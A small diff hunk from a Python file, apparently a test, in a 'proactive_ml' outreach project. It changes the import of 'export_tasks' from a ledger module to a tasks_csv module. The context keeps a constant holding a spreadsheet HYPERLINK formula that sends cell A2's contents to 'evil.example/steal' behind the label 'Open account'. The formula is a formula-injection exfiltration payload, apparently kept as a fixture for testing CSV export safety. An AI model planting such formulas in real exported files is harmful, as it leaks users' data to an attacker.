@@ -6,7 +6,7 @@ from datetime import date, datetime
 
 import pandas as pd
 
-from proactive_ml.outreach.ledger import export_tasks
+from proactive_ml.outreach.tasks_csv import export_tasks
 
 LINK = '=HYPERLINK("http://evil.example/steal?c="&A2,"Open account")'
 
